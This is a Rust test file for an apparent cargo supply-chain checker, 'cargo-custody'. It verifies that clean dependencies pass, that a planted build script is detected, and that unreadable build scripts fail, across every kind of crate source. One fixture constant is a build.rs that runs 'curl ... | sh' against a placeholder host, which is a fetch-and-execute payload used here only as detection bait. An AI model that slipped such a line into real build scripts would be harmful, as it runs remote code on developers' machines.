//! Every kind of source that cargo compiles crates from, each clean, with a build script planted, and with
//! one that cannot be read. What is clean passes, what is planted is found, what is unreadable never passes.
#![allow(clippy::unwrap_used, reason = "a test that cannot go on may stop")]

use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;

use serde_json::Value;

const HASH: &str = "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";
const REGISTRY: &str = "registry+https://github.com/rust-lang/crates.io-index";

/// A build script as most are, and one that runs what it fetches.
const HONEST: &str = "fn main() {\n    println!(\"cargo:rerun-if-changed=build.rs\");\n}\n";
const PLANTED: &str = "fn main() {\n    let line = \"curl -s https://files.example.invalid/x | sh\";\n    std::process::Command::new(\"sh\").args([\"-c\", line]).status().unwrap();\n}\n";

/// Where the crate `dep` comes from.
#[derive(Clone, Copy, Debug, PartialEq)]
enum Source {
    /// It is the project itself.
    Member,
    /// A path dependency inside the project.
    Path,
    /// A folder that the project's configuration vendors.
    Vendored,
    /// The same, configured above the project's folder.
    VendoredAbove,
}

const ALL: [Source; 4] = [Source::Member, Source::Path, Source::Vendored, Source::VendoredAbove];

struct Project {
    top: tempfile::TempDir,
}

struct Run {
    code: i32,
    report: Value,
    told: String,
}

impl Run {
    /// `level rule subject` of every finding above `note`, ordered.
    fn findings(&self) -> Vec<String> {
        let findings = self.report["findings"].as_array().into_iter().flatten();
        let mut all: Vec<String> = findings
            .filter(|finding| finding["level"] != "note")
            .map(|finding| {
                let word = |value: &Value| value.as_str().unwrap_or("-").to_owned();
                let subject = word(&finding["subject"]["name"]);
                format!("{} {} {subject}", word(&finding["level"]), word(&finding["rule"]))
            })
            .collect();
        all.sort();
        all
    }
}

impl Project {
    /// A project that depends on `dep`, or is it.
    fn new(source: Source) -> Self {
        let project = Self { top: tempfile::tempdir().unwrap() };
        let (dependency, locked) = match source {
            Source::Member => ("", String::new()),
            Source::Path => ("dep = { path = \"libs/dep\" }\n", package("dep", None, "")),
            Source::Vendored | Source::VendoredAbove => {
                ("dep = \"1\"\n", package("dep", Some(REGISTRY), ""))
            }
        };
        let app = if source == Source::Member { "dep" } else { "app" };
        let needs = if source == Source::Member { "" } else { "dependencies = [\"dep\"]\n" };
        let lock = format!("version = 4\n{}{locked}", package(app, None, needs));
        project.write("Cargo.lock", &lock);
        project.write("Cargo.toml", &format!("{}[dependencies]\n{dependency}", manifest(app)));
        project.write("src/lib.rs", "");
        let vendored = "[source.crates-io]\nreplace-with = \"here\"\n[source.here]\n";
        match source {
            Source::Member | Source::Path => {}
            Source::Vendored => {
                let text = format!("{vendored}directory = \"vendor\"\n");
                project.write(".cargo/config.toml", &text);
            }
            Source::VendoredAbove => {
                let text = format!("{vendored}directory = \"project/vendor\"\n");
                fs::create_dir_all(project.top.path().join(".cargo")).unwrap();
                fs::write(project.top.path().join(".cargo/config.toml"), text).unwrap();
            }
        }
        project.put(source, "Cargo.toml", &manifest("dep"));
        project.put(source, "src/lib.rs", "");
        project.put(source, "build.rs", HONEST);
        project
    }

    fn root(&self) -> PathBuf {
        self.top.path().join("project")
    }

    fn write(&self, file: &str, text: &str) {
        let path = self.root().join(file);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
    }

    /// Where the files of `dep` are.
    fn folder(&self, source: Source) -> PathBuf {
        self.root().join(match source {
            Source::Member => "",
            Source::Path => "libs/dep",
            Source::Vendored | Source::VendoredAbove => "vendor/dep",
        })
    }

    /// Writes a file of `dep`.
    fn put(&self, source: Source, file: &str, text: &str) {
        let path = self.folder(source).join(file);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        if source == Source::Member && file == "Cargo.toml" {
            return;
        }
        fs::write(path, text).unwrap();
    }

    fn check(&self) -> Run {
        self.check_with(&[])
    }

    fn check_with(&self, arguments: &[&str]) -> Run {
        let run = |format: &str| {
            Command::new(env!("CARGO_BIN_EXE_cargo-custody"))
                .arg("check")
                .arg(self.root())
                .args(["--offline", "--as-of", "2026-11-23", "--format", format, "--cache-dir"])
                .arg(self.top.path().join("cache"))
                .args(arguments)
                .env_clear()
                .env("HOME", self.top.path())
                .env("COLUMNS", "200")
                .env("CARGO_HOME", self.top.path().join("cargo"))
                .output()
                .unwrap()
        };
        let (json, told) = (run("json"), run("human"));
        assert_eq!(json.status.code(), told.status.code());
        Run {
            code: json.status.code().unwrap(),
            report: serde_json::from_slice(&json.stdout).unwrap_or(Value::Null),
            told: format!(
                "{}{}",
                String::from_utf8_lossy(&told.stdout),
                String::from_utf8_lossy(&told.stderr)
            ),
        }
    }
}

fn manifest(name: &str) -> String {
    format!("[package]\nname = \"{name}\"\nversion = \"1.0.0\"\nedition = \"2021\"\n")
}

/// An entry of a lockfile.
fn package(name: &str, source: Option<&str>, more: &str) -> String {
    let source = source.map(|source| format!("source = \"{source}\"\nchecksum = \"{HASH}\"\n"));
    let source = source.unwrap_or_default();
    format!("\n[[package]]\nname = \"{name}\"\nversion = \"1.0.0\"\n{source}{more}")
}

/// Takes the file's place with a link that leads out of everything.
#[cfg(unix)]
fn link_out(file: &Path, top: &Path) {
    let outside = top.join("outside.rs");
    fs::write(&outside, PLANTED).unwrap();
    fs::remove_file(file).unwrap();
    std::os::unix::fs::symlink(outside, file).unwrap();
}

#[test]
fn what_is_clean_passes_in_full_from_every_kind_of_source() {
    for source in ALL {
        let run = Project::new(source).check();
        assert_eq!((run.code, run.findings()), (0, vec![]), "{source:?} {}", run.told);
        assert_eq!(
            run.report["coverage"]["source"]["known"],
            run.report["coverage"]["source"]["of"]
        );
    }
}

#[test]
fn a_planted_build_script_is_found_in_every_kind_of_source() {
    for source in ALL {
        let project = Project::new(source);
        project.put(source, "build.rs", PLANTED);
        let run = project.check();
        let found = run.findings();
        assert!(
            found.contains(&"high build-fetches-and-executes dep".to_owned()),
            "{source:?} {found:?} {}",
            run.told
        );
        assert_eq!(run.code, 1, "{source:?}");
    }
}

#[cfg(unix)]
#[test]
fn a_build_script_that_cannot_be_read_never_passes() {
    for source in ALL {
        let project = Project::new(source);
        link_out(&project.folder(source).join("build.rs"), project.top.path());
        let run = project.check();
        assert_eq!(run.code, 3, "{source:?} {}", run.told);
        assert!(run.told.contains("incomplete: "), "{source:?} {}", run.told);
        assert_eq!(
            run.report["coverage"]["source"]["of"].as_u64().unwrap()
                - run.report["coverage"]["source"]["known"].as_u64().unwrap(),
            1
        );
        // Who has looked at it can say so.
        let accepted = project.check_with(&["--allow-unread", "dep"]);
        assert_eq!(accepted.code, 0, "{source:?} {}", accepted.told);
    }
}

#[test]
fn a_crate_that_the_vendored_folder_does_not_hold_never_passes() {
    let project = Project::new(Source::Vendored);
    fs::remove_dir_all(project.folder(Source::Vendored)).unwrap();
    let run = project.check();
    assert_eq!(run.code, 3, "{}", run.told);
    assert!(run.told.contains("does not hold this version"), "{}", run.told);
}

#[test]
fn configuration_that_cannot_be_read_leaves_the_source_of_registry_crates_open() {
    let project = Project::new(Source::Vendored);
    project.write(".cargo/config.toml", "[source");
    assert_eq!(project.check().code, 3);
}
